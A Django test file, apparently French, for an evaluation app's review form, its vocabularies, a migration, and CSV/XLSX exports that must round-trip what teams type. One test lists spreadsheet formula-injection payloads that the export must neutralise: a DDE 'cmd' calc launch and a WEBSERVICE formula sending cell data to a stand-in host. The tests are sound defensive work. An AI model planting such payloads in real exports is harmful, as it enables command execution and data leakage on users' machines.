"""The observatory return: its vocabularies, the bilan form that records them, and the exports
that give back, unchanged, what was entered (round trip through CSV and XLSX)."""

import csv
import io
import re
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from actions.models import FicheAction
from evaluation.exports import formule_possible, protege_csv
from evaluation.models import BilanAction
from evaluation.observatoire import (
    SEPARATEUR,
    TYPE_OBSERVATOIRE,
    VOCABULAIRES,
    Initiative,
    MotCle,
    Public,
    TerritoireConcerne,
    TypePartenaire,
)
from partenaires.models import Partenaire
from tests.factories import (
    BilanActionFactory,
    FicheActionFactory,
    FichierBilanFactory,
    ResultatFactory,
)
from tests.monde import construire_monde
from tests.test_migrations import apres_le_test, derniere_version, migrer  # noqa: F401

from .conftest import PDF

# --- The vocabularies ---


def test_aucun_libelle_ne_contient_le_separateur_des_cellules_a_plusieurs_valeurs():
    libelles = [label for vocabulaire in VOCABULAIRES for label in vocabulaire.labels]
    libelles += FicheAction.MotifFin.labels
    assert [lib for lib in libelles if SEPARATEUR.strip() in lib or "\n" in lib] == []
    # The old separator was ambiguous: four mots clés hold a comma.
    assert len([lib for lib in MotCle.labels if ", " in lib]) == 4


def test_les_vocabulaires_sont_ceux_du_questionnaire():
    for mot in [
        "Solidarité",
        "Mixité sociale",
        "Développement durable",
        "Intégration",
        "Alphabétisation et apprentissage du français",
        "Démocratie et citoyenneté",
    ]:
        assert mot in MotCle.labels
    assert TerritoireConcerne.AUTRE.label == "Autre"
    assert "DRAC" in TypePartenaire.ETAT.label and TypePartenaire.REGION.label == "Conseil régional"
    # Every type of the partner directory has its place in the observatory's list.
    assert set(TYPE_OBSERVATOIRE) == set(Partenaire.Type)


# --- The bilan form ---


@pytest.fixture
def direction(client, monde):
    client.force_login(monde.direction_1)
    return client


def url_bilan(monde, annee=2025):
    return reverse("evaluation:bilan", args=[monde.fiche_1a.pk, annee])


def test_le_formulaire_propose_les_nouvelles_rubriques(direction, monde):
    page = direction.get(url_bilan(monde)).content.decode()
    for valeur in Initiative.values:
        balise = re.search(rf'<input[^>]*name="initiatives" value="{valeur}"[^>]*>', page)
        assert 'type="checkbox"' in balise.group(0)
    for libelle in [
        "Précision sur les mots clés",
        "Précision sur l&#x27;initiative",
        "Précision sur le territoire",
        "Personnes mobilisées, en clair",
    ]:
        assert libelle in page
    assert 'value="solidarite"' in page and 'value="conseil_regional"' in page


def test_autre_sans_precision_est_refuse_a_cote_du_champ(direction, monde):
    reponse = direction.post(
        url_bilan(monde),
        {
            "statut": "en_cours",
            "mots_cles": ["culture", "autre"],
            "initiatives": ["autre"],
            "territoire": "autre",
            "resultat_habitants": "Gardé tel quel",
        },
    )
    assert reponse.status_code == 200
    form = reponse.context["form"]
    assert form.errors == {
        "precision_mots_cles": ["Vous avez choisi « Autre » : précisez quel mot clé."],
        "precision_initiative": ["Vous avez choisi « Autre » : précisez qui est à l'initiative."],
        "precision_territoire": ["Vous avez choisi « Autre » : précisez quel territoire."],
    }
    page = reponse.content.decode()
    assert "Gardé tel quel" in page  # what was typed stays in the form
    assert not BilanAction.objects.exists()


def test_une_precision_trop_longue_est_refusee_jamais_coupee(direction, monde):
    trop_long = "é" * 256
    reponse = direction.post(
        url_bilan(monde), {"statut": "en_cours", "precision_initiative": trop_long}
    )
    assert reponse.status_code == 200
    assert reponse.context["form"].errors["precision_initiative"] == [
        "Assurez-vous que cette valeur comporte au plus 255 caractères (actuellement 256)."
    ]
    assert trop_long in reponse.content.decode()
    assert not BilanAction.objects.exists()


def test_plusieurs_initiatives_sont_enregistrees(direction, monde):
    donnees = {"statut": "en_cours", "initiatives": ["habitant", "partenaires"]}
    donnees["precision_initiative"] = "Une mère de famille, avec la ludothèque"
    assert direction.post(url_bilan(monde), donnees).status_code == 302
    bilan = BilanAction.objects.get()
    assert bilan.initiatives == ["habitant", "partenaires"]
    assert bilan.precision_initiative == "Une mère de famille, avec la ludothèque"


# --- The CSV protection: only what a spreadsheet would evaluate ---


@pytest.mark.parametrize(
    "texte",
    [
        "- atelier du mardi\n- sortie au musée",
        "- ",
        "-",
        "-5",
        "+2,5",
        "« Un vrai lieu de vie », disent-ils",
        "Texte - avec un tiret = et un égal",
        " =précédé d'une espace",
        "",
    ],
)
def test_le_texte_ordinaire_sort_tel_quel_du_csv(texte):
    assert not formule_possible(texte)
    assert protege_csv(texte) == texte


@pytest.mark.parametrize(
    "texte",
    [
        "=1+1",
        "=SOMME(A1:A3)",
        "@SUM(A1)",
        "+33 6 12 34 56 78",
        "-2+3+cmd|' /C calc'!A0",
        "- cmd|' /C calc'!A0",
        '- WEBSERVICE("https://exemple.org/?"&A1)',
        "-x",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_ce_qu_un_tableur_evaluerait_est_protege_par_une_apostrophe(texte):
    assert formule_possible(texte)
    assert protege_csv(texte) == "'" + texte


# --- The round trip: entered through the form, exported, read back ---

# What a team types, with French habits: « guillemets », lists pasted with "- " lines (browsers
# send CRLF line breaks), decimal commas, texts starting with "-", "=", "+", "@".
SAISIE = {
    "statut": "terminee",
    "motif_fin": "autre",
    "precision_fin": "=> voir le compte rendu du COPIL",
    "dimension": "accompagnement",
    "mots_cles": ["solidarite", "insertion", "loisirs", "autre"],
    "precision_mots_cles": "Jardinage ; « troc » de graines, échanges",
    "initiatives": ["partenaires", "groupe_habitants", "habitant"],
    "precision_initiative": "- les parents d'élèves\r\n- la ludothèque",
    "territoire": "autre",
    "precision_territoire": "Quartier Nord + hameau des Combes",
    "publics": ["familles", "enfance"],
    "types_partenaires": ["etat", "conseil_regional", "association_locale", "protection_sociale"],
    "ressources_financieres": "- DRAC : 2 500 €\r\n- Conseil régional : 1 200 €\r\n- Fonds propres",
    "montant_ressources": "3 702,6",
    "salaries": "2",
    "benevoles": "5",
    "participants": "70",
    "personnes_precision": "60 à 80 participants, 5 bénévoles, 2 salariés dont un en service civique",
    "resultat_territoire": "« Le quartier s'est approprié le jardin »,\r\nselon le conseil citoyen.",
    "resultat_centre": "+33 6 12 34 56 78 : une ligne pour les inscriptions",
    "resultat_habitants": "-5 % de personnes se disant isolées",
    "limites": "@mairie : un relais reste à trouver",
    "perspectives": "Reconduire en 2026 ; ouvrir le samedi.\r\n\r\n- Atelier\r\n- Sortie",
    "titre_fichier": "Compte rendu ; version 2",
}
CHOIX = {
    "Mots clés": ("mots_cles", MotCle),
    "Qui est à l'initiative": ("initiatives", Initiative),
    "Public": ("publics", Public),
    "Partenaires d'action": ("types_partenaires", TypePartenaire),
}
TEXTES = {
    "Précision sur la fin": "precision_fin",
    "Précision sur les mots clés": "precision_mots_cles",
    "Précision sur l'initiative": "precision_initiative",
    "Précision sur le territoire": "precision_territoire",
    "Ressources financières mobilisées": "ressources_financieres",
    "Personnes mobilisées, en clair": "personnes_precision",
    "Résultat sur le territoire": "resultat_territoire",
    "Résultat pour le centre social": "resultat_centre",
    "Résultat pour les habitants": "resultat_habitants",
    "Limites": "limites",
    "Perspectives": "perspectives",
    "Fichiers associés": "titre_fichier",
}
NOMBRES = {
    "Montant des ressources (€)": ("montant_ressources", Decimal("3702.6")),
    "Salariés mobilisés": ("salaries", 2),
    "Bénévoles mobilisés": ("benevoles", 5),
    "Participants": ("participants", 70),
}
LIBELLES = {
    "Statut": "Terminée",
    "Raison de la fin": "Autre raison",
    "Dimension": "Accompagnement de projets",
    "Territoire concerné": "Autre",
}


@pytest.fixture
def bilan_saisi(direction, monde):
    fiche = monde.fiche_1a
    fiche.contexte = "Des familles isolées, « loin de tout » ; peu d'offre le samedi."
    fiche.presentation = "- Un jardin partagé\r\n- Des ateliers = une fois par mois"
    fiche.save()
    donnees = {**SAISIE, "fichier": SimpleUploadedFile("cr.pdf", PDF)}
    assert direction.post(url_bilan(monde), donnees).status_code == 302
    return BilanAction.objects.get(fiche=fiche, annee=2025)


def lire_csv(contenu):
    texte = contenu.decode("utf-8-sig")
    entetes, *lignes = csv.reader(io.StringIO(texte, newline=""), delimiter=";")
    return [dict(zip(entetes, ligne, strict=True)) for ligne in lignes]


def lire_xlsx(contenu):
    entetes, *lignes = load_workbook(io.BytesIO(contenu)).active.iter_rows(values_only=True)
    return [dict(zip(entetes, ligne, strict=True)) for ligne in lignes]


def valeurs_lues(ligne, nombre):
    """What the export gives back, field by field, as the form took it."""
    lues = {}
    for colonne, (champ, vocabulaire) in CHOIX.items():
        valeur_de = {label: valeur for valeur, label in vocabulaire.choices}
        lues[champ] = {valeur_de[lib] for lib in ligne[colonne].split(SEPARATEUR)}
    for colonne, champ in TEXTES.items():
        lues[champ] = ligne[colonne]
    for colonne, (champ, _) in NOMBRES.items():
        lues[champ] = nombre(ligne[colonne])
    for colonne in LIBELLES:
        lues[colonne] = ligne[colonne]
    return lues


def valeurs_saisies():
    saisies = {champ: set(SAISIE[champ]) for champ, _ in CHOIX.values()}
    saisies |= {champ: SAISIE[champ] for champ in TEXTES.values()}
    saisies |= dict(NOMBRES.values())
    return saisies | LIBELLES


def test_aller_retour_csv(direction, monde, bilan_saisi):
    reponse = direction.get(
        reverse("evaluation:export_bilans", args=[monde.projet_1.pk, "csv"]) + "?annee=2025"
    )
    (ligne,) = lire_csv(reponse.content)

    def nombre(cellule):
        return Decimal(cellule.replace(",", ".")) if "," in cellule else int(cellule)

    # A spreadsheet would evaluate these four: they alone carry the apostrophe.
    protegees = {"precision_fin", "resultat_centre", "resultat_habitants", "limites"}
    lues = valeurs_lues(ligne, nombre)
    saisies = valeurs_saisies()
    for champ in protegees:
        assert lues.pop(champ) == "'" + saisies.pop(champ)
    assert lues == saisies
    assert ligne["Structure"] == monde.structure_1.nom
    assert ligne["Identifiant de la structure"] == monde.structure_1.slug
    assert ligne["Résumé (contexte)"] == monde.fiche_1a.contexte
    assert ligne["Description (présentation, modalités)"] == monde.fiche_1a.presentation
    assert ligne["Mots clés"] == "Insertion, emploi ; Loisirs, vacances ; Solidarité ; Autre"


def test_aller_retour_xlsx(direction, monde, bilan_saisi):
    reponse = direction.get(
        reverse("evaluation:export_bilans", args=[monde.projet_1.pk, "xlsx"]) + "?annee=2025"
    )
    (ligne,) = lire_xlsx(reponse.content)

    def nombre(cellule):
        return Decimal(str(cellule)) if isinstance(cellule, float) else cellule

    # Every value exactly, line breaks as the browser sent them (CRLF) included.
    assert valeurs_lues(ligne, nombre) == valeurs_saisies()
    assert ligne["Résumé (contexte)"] == monde.fiche_1a.contexte
    # Every text is a text cell: no formula anywhere in the sheet.
    feuille = zipfile.ZipFile(io.BytesIO(reponse.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in feuille and b"<f " not in feuille
    assert not re.search(rb"<t[^>]*>'", feuille)  # and no text starts with an added quote


def test_les_caracteres_que_xml_refuse_ne_font_pas_echouer_l_export(client, monde):
    BilanActionFactory(
        fiche=monde.fiche_1a, annee=2025, limites="Collé d'un traitement\x0bde texte"
    )
    client.force_login(monde.equipe_1)
    reponse = client.get(
        reverse("evaluation:export_bilans", args=[monde.projet_1.pk, "xlsx"]) + "?annee=2025"
    )
    assert reponse.status_code == 200
    # Excel's escape for the character, which Excel reads back as the character itself.
    assert lire_xlsx(reponse.content)[0]["Limites"] == "Collé d'un traitement_x000B_de texte"


def test_une_ligne_par_action_dans_l_ordre_des_fiches_en_requetes_fixes(
    client, monde, django_assert_max_num_queries
):
    axe = monde.fiche_1a.axe
    fiches = [FicheActionFactory(projet=monde.projet_1, axe=axe, numero=n) for n in (9, 7, 8)]
    for fiche in [*fiches, monde.fiche_1a]:
        FichierBilanFactory(bilan=BilanActionFactory(fiche=fiche, annee=2025, observatoire=True))
    BilanActionFactory(fiche=fiches[0], annee=2026)
    client.force_login(monde.equipe_1)
    url = reverse("evaluation:export_bilans", args=[monde.projet_1.pk, "csv"]) + "?annee=2025"
    with django_assert_max_num_queries(12):
        lignes = lire_csv(client.get(url).content)
    attendu = sorted([*fiches, monde.fiche_1a], key=lambda f: f.numero)
    assert [ligne["Action"] for ligne in lignes] == [f.titre for f in attendu]
    initiatives = {ligne["Qui est à l'initiative"] for ligne in lignes}
    assert initiatives == {"Un groupe d'habitants ; Un ou plusieurs partenaires"}


# --- The indicators export: each result's date and source ---


def test_l_export_des_indicateurs_donne_la_date_et_la_source(client, monde, quantitatif):
    ResultatFactory(
        indicateur=quantitatif,
        annee=2025,
        valeur=140,
        date_mesure=date(2025, 12, 15),
        source="-Fiches de présence",
    )
    client.force_login(monde.equipe_1)
    url = reverse("evaluation:export_indicateurs", args=[monde.projet_1.pk, "xlsx"])
    (ligne,) = lire_xlsx(client.get(url).content)
    assert ligne["Résultat 2025"] == 140
    assert ligne["Date du relevé 2025"].date() == date(2025, 12, 15)
    assert ligne["Source 2025"] == "-Fiches de présence"
    assert ligne["Date du relevé 2026"] is None and ligne["Source 2026"] is None
    url = reverse("evaluation:export_indicateurs", args=[monde.projet_1.pk, "csv"])
    (ligne,) = lire_csv(client.get(url).content)
    assert ligne["Date du relevé 2025"] == "15/12/2025"
    assert ligne["Source 2025"] == "'-Fiches de présence"  # « -F… » would be a formula


# --- The migration: « qui est à l'initiative » single choice → a list, and back ---


@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("apres_le_test")
def test_la_migration_garde_l_initiative_de_chaque_bilan():
    monde = construire_monde()
    avant = migrer([("evaluation", "0003_type_mime")])
    Bilan = avant.get_model("evaluation", "BilanAction")
    for annee, initiative in [(2025, "habitant"), (2026, "")]:
        Bilan.objects.create(fiche_id=monde.fiche_1a.pk, annee=annee, initiative=initiative)

    apres = migrer(derniere_version())
    Bilan = apres.get_model("evaluation", "BilanAction")
    assert dict(Bilan.objects.values_list("annee", "initiatives")) == {2025: ["habitant"], 2026: []}

    avant = migrer([("evaluation", "0003_type_mime")])
    Bilan = avant.get_model("evaluation", "BilanAction")
    assert dict(Bilan.objects.values_list("annee", "initiative")) == {2025: "habitant", 2026: ""}
